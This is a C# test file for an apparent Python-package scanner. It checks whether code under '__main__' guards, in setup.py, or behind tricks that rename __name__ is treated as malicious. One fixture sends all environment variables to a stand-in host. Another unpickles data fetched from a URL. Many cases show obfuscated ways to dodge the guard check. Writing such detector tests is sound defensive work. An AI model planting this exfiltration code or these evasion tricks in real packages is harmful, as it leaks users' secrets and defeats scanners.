using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>What stands under the question whether a file is the program runs where it is, and not where the file is imported.</summary>
public sealed class MainBlockTests
{
    private const string Harvest = "import os, json, urllib.request\nif __name__ == '__main__':\n    urllib.request.urlopen('https://collect.invalid/x', data=json.dumps(dict(os.environ)).encode())\n";

    private static Verdict Sdist(string setup, string module, string other) => CatalogueInspection.Of(
        Ecosystem.PyPi,
        "sample-1.0.0.tar.gz",
        new SdistBuilder("sample", "1.0.0").File("setup.py", setup).File("sample/__init__.py", module).File("sample/other.py", other).Build()).Verdict;

    private const string Setup = "from setuptools import setup\nsetup(name='sample', version='1.0.0', packages=['sample'])\n";

    [Fact]
    public void An_imported_module_does_not_run_it() => Sdist(Setup, "from . import other\n", Harvest).ShouldNotBe(Verdict.Malicious);

    [Theory]
    [InlineData("import subprocess, sys\nsubprocess.run([sys.executable, 'sample/other.py'])\n")]
    [InlineData("import os\nos.system('python sample/other.py')\n")]
    [InlineData("import os\nos.system('python -m sample.other')\n")]
    [InlineData("exec(open('sample/other.py').read())\n")]
    [InlineData("import runpy\nrunpy.run_path('sample/other.py', run_name='__main__')\n")]
    public void A_started_file_runs_it(string start) => Sdist(start + Setup, "", Harvest).ShouldBe(Verdict.Malicious);

    [Fact]
    public void The_setup_script_is_started() => Sdist(Harvest + Setup, "", "").ShouldBe(Verdict.Malicious);

    // Loads a grammar where it is started, as parsers with a demonstration do; the loader could fetch what it is asked for.
    private const string Loads = "import pickle, urllib.request\ndef load(url):\n    return pickle.load(urllib.request.urlopen(url))\n";
    private const string Demonstrates = "if __name__ == '__main__':\n    from .other import load\n    load('grammars/x.fcfg')\n";

    [Fact]
    public void What_it_calls_of_other_files_is_not_called_by_the_import() => Sdist(Setup, Demonstrates, Loads).ShouldBe(Verdict.Clean);

    [Theory]
    [InlineData("from .other import load\nload('grammars/x.fcfg')\n")]
    [InlineData("if __name__ == 'sample':\n    from .other import load\n    load('grammars/x.fcfg')\n")]
    [InlineData("if __name__ != '__main__':\n    from .other import load\n    load('grammars/x.fcfg')\n")]
    [InlineData("if __name__ == '__main__':\n    pass\nelse:\n    from .other import load\n    load('grammars/x.fcfg')\n")]
    public void What_is_asked_otherwise_runs(string module) => Sdist(Setup, module, Loads).ShouldBe(Verdict.Malicious);

    [Theory]
    [InlineData("__name__ = '__main__'\n")]
    [InlineData("__name__: str = '__main__'\n")]
    [InlineData("__name__, x = '__main__', 1\n")]
    [InlineData("x, __name__ = 1, '__main__'\n")]
    [InlineData("(__name__) = '__main__'\n")]
    [InlineData("[x, (__name__\n, y)] = [1, ('__main__', 2)]\n")]
    [InlineData("for __name__ in ['__main__']: pass\n")]
    [InlineData("for x, __name__ in [(1, '__main__')]: pass\n")]
    [InlineData("globals()['__na' + 'me__'] = '__main__'\n")]
    [InlineData("import sys\nsys.modules['sample'].__name__ = '__main__'\n")]
    [InlineData("exec('__na' 'me__ = chr(95)')\n")]
    [InlineData("from .names import *\n")]
    [InlineData("from .names import (x,\n    __name__)\n")]
    [InlineData("from .names import y as __name__\n")]
    [InlineData("(__name__ := '__main__')\n")]
    [InlineData("match '__main__':\n    case __name__: pass\n")]
    [InlineData("def rename():\n    globals()['__na' + 'me__'] = '__main__'\nrename()\n")]
    [InlineData("class Renamer:\n    def __init__(self):\n        vars()[chr(120)] = 1\nRenamer()\n")]
    [InlineData("class Base:\n    def __init_subclass__(cls):\n        globals()['__na' + 'me__'] = '__main__'\nclass Other(Base):\n    pass\n")]
    [InlineData("class Meta(type):\n    def __new__(cls, *rest):\n        globals()['__na' + 'me__'] = '__main__'\nclass Other(metaclass=Meta):\n    pass\n")]
    [InlineData("globals()['__name__'] = '__main__'\n")]
    [InlineData("globals()[chr(95) * 2 + 'name' + chr(95) * 2] = '__main__'\n")]
    [InlineData("globals()['__builtins__']['ex' + 'ec']('__na' 'me__ = chr(95)')\n")]
    [InlineData("import sample as me\nme.__name__ = '__main__'\n")]
    [InlineData("import sample as me\nobject.__setattr__(me, '__na' 'me__', '__main__')\n")]
    [InlineData("match ['__main__']:\n    case [__name__]: pass\n")]
    public void A_file_that_may_name_itself_runs_all_of_it(string naming) => Sdist(Setup, naming + Demonstrates, Loads).ShouldBe(Verdict.Malicious);

    [Theory]
    [InlineData("def later(text):\n    return eval(text)\n")]
    [InlineData("def later(thing, name):\n    setattr(thing, name, globals()[name])\n")]
    [InlineData("class Options(dict):\n    def set(self, name):\n        setattr(self, name, vars(self))\nclass More(Options):\n    def __setitem__(self, name, value):\n        super().__setitem__(name, value)\n")]
    [InlineData("import sys\nglobals()['done'] = 'win32' in sys.modules or 'x' in globals()\n")]
    [InlineData("import logging\nlog = logging.getLogger(__name__)\n")]
    public void What_only_a_caller_runs_names_nothing(string before) => Sdist(Setup, before + Demonstrates, Loads).ShouldBe(Verdict.Clean);

    [Fact]
    public void Whoever_asks_for_another_name_is_imported() => Sdist(Setup, "from . import other\n", Harvest.Replace("'__main__'", "'sample.other'", StringComparison.Ordinal)).ShouldBe(Verdict.Malicious);
}
